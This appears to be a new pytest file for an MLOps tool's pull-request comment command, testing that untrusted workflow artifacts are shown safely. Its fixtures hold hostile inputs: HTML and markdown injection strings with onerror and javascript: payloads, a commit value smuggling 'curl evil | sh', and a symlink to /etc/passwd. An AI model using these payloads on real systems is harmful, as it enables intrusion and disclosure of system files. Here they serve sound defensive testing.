@@ -1,0 +1,312 @@
+"""The one comment of a pull request: whose data it shows, and where."""
+
+from __future__ import annotations
+
+import json
+import os
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from typer.testing import CliRunner
+
+from mlops.cli import app
+from mlops.github.comment import MARKER, MOST_BYTES
+from mlops.project import Project
+from mlops.results import Evaluation, Expectation, Metric, Record, Validation, Verdict
+
+from .conftest import git
+from .github_world import GitHub, github_fixture  # noqa: F401
+
+HEAD = "a" * 40
+RUN: dict[str, Any] = {
+    "id": 9,
+    "run_attempt": 1,
+    "head_sha": HEAD,
+    "head_branch": "better",
+    "head_repository": {"owner": {"login": "stranger"}},
+    "run_started_at": "2026-11-23T12:00:00Z",
+    "html_url": "https://github.com/acme/demo/actions/runs/9",
+    "actor": {"login": "stranger"},
+    "conclusion": "success",
+}
+
+
+def pull(number: int, sha: str = HEAD, head: str = "stranger:better", state: str = "open") -> Any:
+    return {"number": number, "state": state, "head": {"sha": sha, "label": head}}
+
+
+def results(folder: Path, project: Project, message: str = "0 of 600 rows") -> Path:
+    """Write what a run of the model `churn` uploads."""
+    build = folder / "build" / "churn"
+    build.mkdir(parents=True)
+    (build / "spec.json").write_text(project.model("churn").model_dump_json())
+    expectation = Expectation(name="not null", column="tenure", ok=False, message=message)
+    Validation(ok=True, expectations=(expectation,)).save(build)
+    metric = Metric(name="roc_auc", value=0.9, low=0.8, high=0.95)
+    Evaluation(ok=True, rows=100, metrics=(metric,)).save(build)
+    Verdict(decision="promote", rule="first version", reasons=(message,)).save(build)
+    Record(
+        id="mine",
+        model="other",
+        started="1999-01-01T00:00:00+00:00",
+        seconds=3,
+        stages={"train": "ran"},
+        outcome="promote",
+        actor="@root",
+        pull_request=1,
+        commit="b" * 40,
+    ).save(build)
+    return build
+
+
+class World:
+    """A repository, its GitHub, and what is done there."""
+
+    def __init__(self, project: Project, github: GitHub, folder: Path) -> None:
+        self.project, self.github, self.folder = project, github, folder
+
+    def comment(self, **run: Any) -> Any:
+        event = self.folder / "event.json"
+        event.write_text(json.dumps({"workflow_run": {**RUN, **run}}))
+        os.environ["GITHUB_EVENT_PATH"] = str(event)
+        command = ["comment", "--report", str(self.folder), "--json"]
+        done = CliRunner().invoke(app, command)
+        assert done.exit_code == 0, done.output
+        return json.loads(done.stdout)
+
+    @property
+    def bodies(self) -> list[str]:
+        return [c["body"] for c in self.github.comments.values()]
+
+
+@pytest.fixture(name="world")
+def world_fixture(
+    make_project: Callable[..., Project],
+    github: GitHub,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> World:
+    project = make_project()
+    monkeypatch.chdir(project.root)
+    monkeypatch.setenv("GITHUB_EVENT_PATH", "")
+    github.pulls = [pull(5)]
+    return World(project, github, tmp_path / "artifacts")
+
+
+def test_the_verdict_is_shown_and_the_run_is_journaled(world: World) -> None:
+    results(world.folder, world.project)
+    assert world.comment()["pull_request"] == 5
+    (body,) = world.bodies
+    assert body.startswith(MARKER) and "churn" in body and "0.900" in body
+    assert RUN["html_url"] in body
+    files = git(world.project.root, "ls-tree", "-r", "--name-only", "journal").split("\n")
+    (path,) = [f for f in files if f.startswith("runs/churn/2026/11/")]
+    record = json.loads(git(world.project.root, "show", f"journal:{path}"))
+    said = {k: record[k] for k in ("model", "actor", "pull_request", "commit", "run_url")}
+    assert said == {
+        "model": "churn",
+        "actor": "@stranger",
+        "pull_request": 5,
+        "commit": HEAD,
+        "run_url": RUN["html_url"],
+    }
+
+
+def test_it_is_edited_in_place(world: World) -> None:
+    build = results(world.folder, world.project)
+    world.comment()
+    Verdict(decision="reject", rule="superiority", champion="v1.0.0").save(build)
+    world.comment(id=10)
+    assert len(world.bodies) == 1 and "v1.0.0" in world.bodies[0]
+
+
+def test_a_person_who_writes_the_marker_is_not_us(world: World) -> None:
+    results(world.folder, world.project)
+    world.github.kind = "User"
+    world.github.new(
+        world.github.comments,
+        "issues/comments",
+        on=5,
+        user=world.github.user(),
+        body=f"{MARKER}\nlooks good to me",
+    )
+    world.github.kind = "Bot"
+    world.comment()
+    assert len(world.bodies) == 2 and world.bodies[0].endswith("looks good to me")
+
+
+def test_it_lands_on_the_pull_request_of_the_commit(world: World) -> None:
+    results(world.folder, world.project)
+    record = world.folder / "build" / "churn" / "record.json"
+    assert json.loads(record.read_text())["pull_request"] == 1  # what the artifact claims
+    world.github.pulls = [
+        pull(1, head="victim:better"),
+        pull(3, sha="c" * 40),
+        pull(4, state="closed"),
+        pull(6),
+    ]
+    world.comment()
+    assert [c["on"] for c in world.github.comments.values()] == [6]
+
+
+@pytest.mark.parametrize("run", [{"head_sha": "d" * 40}, {"head_repository": None}])
+def test_a_head_that_has_moved_on_gets_no_comment(world: World, run: dict[str, Any]) -> None:
+    results(world.folder, world.project)
+    assert world.comment(**run) == {"comment": None}
+    assert not world.bodies
+
+
+HOSTILE = (
+    "<img src=x onerror=alert(1)> @everyone #1 ![x](http://evil.example/a.png) "
+    "[click](javascript:alert(1)) | cell | `code` <!-- mlops: report --> https://evil.example "
+    "acme/demo#2 </details>\n\n# heading\n- [ ] task"
+)
+
+
+def test_text_of_a_stranger_only_shows(world: World) -> None:
+    results(world.folder, world.project, HOSTILE)
+    world.comment(conclusion="failure")
+    body = world.bodies[0].removeprefix(MARKER)
+    for syntax in ("<img", "@everyone", "![", "](java", "<!--", "https://evil", "\n# heading"):
+        assert syntax not in body
+    assert "evil" in body and body.count("</details>") == body.count("<details>")
+
+
+def test_a_commit_or_name_of_a_stranger_is_no_command(world: World) -> None:
+    build = results(world.folder, world.project)
+    record = json.loads((build / "record.json").read_text())
+    (build / "record.json").write_text(json.dumps({**record, "commit": "x; curl evil | sh"}))
+    world.comment()
+    assert "curl" not in world.bodies[0] and f"git checkout {HEAD}" in world.bodies[0]
+
+
+def oversized(build: Path) -> None:
+    (build / "verdict.json").write_text('{"x": "' + "a" * MOST_BYTES + '"}')
+
+
+def of_another_shape(build: Path) -> None:
+    (build / "verdict.json").write_text('{"decision": "@everyone <b>yes</b>"}')
+
+
+def deep(build: Path) -> None:
+    (build / "evaluation.json").write_text("[" * 100_000 + "]" * 100_000)
+
+
+def no_text(build: Path) -> None:
+    (build / "validation.json").write_bytes(b"\xff\xfe\x00")
+
+
+def a_huge_number(build: Path) -> None:
+    (build / "verdict.json").write_text('{"decision": "promote", "rows": ' + "9" * 10_000 + "}")
+
+
+def a_link(build: Path) -> None:
+    (build / "verdict.json").unlink()
+    (build / "verdict.json").symlink_to("/etc/passwd")
+
+
+def a_folder(build: Path) -> None:
+    (build / "record.json").unlink()
+    (build / "record.json").mkdir()
+
+
+def no_specification(build: Path) -> None:
+    (build / "spec.json").unlink()
+
+
+def another_key(build: Path) -> None:
+    spec = json.loads((build / "spec.json").read_text())
+    (build / "spec.json").write_text(json.dumps({**spec, "surprise": 1}))
+
+
+def an_odd_name(build: Path) -> None:
+    build.rename(build.parent / "@everyone <b>")
+
+
+def nothing_measured(build: Path) -> None:
+    Evaluation(ok=True, rows=1, metrics=()).save(build)
+    (build / "verdict.json").unlink()
+
+
+@pytest.mark.parametrize(
+    "spoil",
+    [
+        oversized,
+        of_another_shape,
+        deep,
+        no_text,
+        a_huge_number,
+        a_link,
+        a_folder,
+        no_specification,
+        another_key,
+        an_odd_name,
+        nothing_measured,
+    ],
+)
+def test_a_spoiled_artifact_is_named_and_not_quoted(
+    world: World, spoil: Callable[[Path], None]
+) -> None:
+    spoil(results(world.folder, world.project))
+    world.comment(conclusion="failure")
+    (body,) = world.bodies
+    assert "Could not be shown: " in body and len(body) < 1000
+    assert "@everyone" not in body and "<b>" not in body and "root:" not in body
+    with pytest.raises(AssertionError):  # what cannot be read is not kept either
+        git_journal(world)
+
+
+def git_journal(world: World) -> None:
+    assert git(world.project.root, "branch", "--list", "journal")
+
+
+def test_one_spoiled_model_does_not_hide_another(world: World) -> None:
+    results(world.folder, world.project)
+    (world.folder / "build" / "price").mkdir()
+    world.comment(conclusion="failure")
+    assert "churn" in world.bodies[0] and "price" in world.bodies[0]
+
+
+def test_too_many_models_still_fit(world: World) -> None:
+    build = results(world.folder, world.project, "x" * 2000)
+    for at in range(60):
+        other = build.parent / f"model{at}"
+        other.mkdir()
+        for file in ("spec.json", "validation.json", "evaluation.json", "verdict.json"):
+            (other / file).write_bytes((build / file).read_bytes())
+    world.comment()
+    (body,) = world.bodies
+    assert len(body) < 65_536
+    assert "there are more than 50 models" in body and "model30" in body
+
+
+def test_docs_alone_say_nothing(world: World) -> None:
+    world.folder.mkdir()
+    assert world.comment()["comment"] is None
+    assert not world.bodies
+
+
+def test_a_comment_that_is_there_follows_when_nothing_is_trained_any_more(world: World) -> None:
+    build = results(world.folder, world.project)
+    world.comment()
+    for path in build.iterdir():
+        path.unlink()
+    build.rmdir()
+    world.comment()
+    assert len(world.bodies) == 1 and "trains no model" in world.bodies[0]
+
+
+def test_a_run_that_failed_before_there_was_a_report(world: World) -> None:
+    world.folder.mkdir()
+    world.comment(conclusion="failure")
+    assert "There is no report" in world.bodies[0] and RUN["html_url"] in world.bodies[0]
+
+
+def test_on_a_laptop_the_number_is_given(world: World) -> None:
+    results(world.folder, world.project)
+    command = ["comment", "--report", str(world.folder), "--pull-request", "8"]
+    done = CliRunner().invoke(app, [*command, "--run-url", "https://example.com/run"])
+    assert done.exit_code == 0, done.output
+    assert [c["on"] for c in world.github.comments.values()] == [8]
